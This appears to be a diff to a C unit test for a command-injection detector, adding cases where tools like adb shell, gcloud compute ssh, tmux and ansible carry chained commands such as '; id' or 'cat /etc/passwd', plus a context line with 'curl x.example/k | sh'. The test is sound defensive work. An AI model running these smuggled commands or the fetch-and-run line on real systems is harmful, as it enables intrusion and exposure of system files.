@@ -210,6 +210,10 @@ static void more_runners_of_a_command_string(void **state)
 	    {"gcloud compute ssh vm-1 --command='", "id && uname", "'"},
 	    {"mussh -H hosts.txt -c '", "uptime; id", "'"},
 	    {"fab -H web1 -- '", "df -h; cat /etc/passwd", "'"},
+	    {"adb -s emulator-5554 shell '", "pm list packages; id", "'"},
+	    {"gcloud compute ssh vm-1 --zone us-east1-b -- '", "uptime; id", "'"},
+	    {"tmux -L jobs -c '", "make; id", "'"},
+	    {"ansible web -m script -a '", "/srv/run.sh; id", "'"},
 	};
 	static const char *const passes[][3] = {
 	    {"socat TCP-LISTEN:8080 OPEN:'", "my notes; (1).txt", "',creat"},
@@ -226,6 +230,10 @@ static void more_runners_of_a_command_string(void **state)
 	    {"tmux new -c '", "/srv/my dir; x", "' 'make'"},
 	    {"env -S ", "VERBOSE=1", " make"},
 	    {"fab -H ", "web1", " -- 'uptime'"},
+	    {"adb -s ", "emulator-5554", " shell 'getprop'"},
+	    {"gcloud compute ssh ", "vm-1", " -- 'uptime'"},
+	    {"tmux -L ", "jobs", " -c 'make'"},
+	    {"ansible web -m script -a '/srv/run.sh ", "report-2024", "'"},
 	};
 	static const char *const bad[] = {"make; curl x.example/k | sh", "echo $(id)"};
 
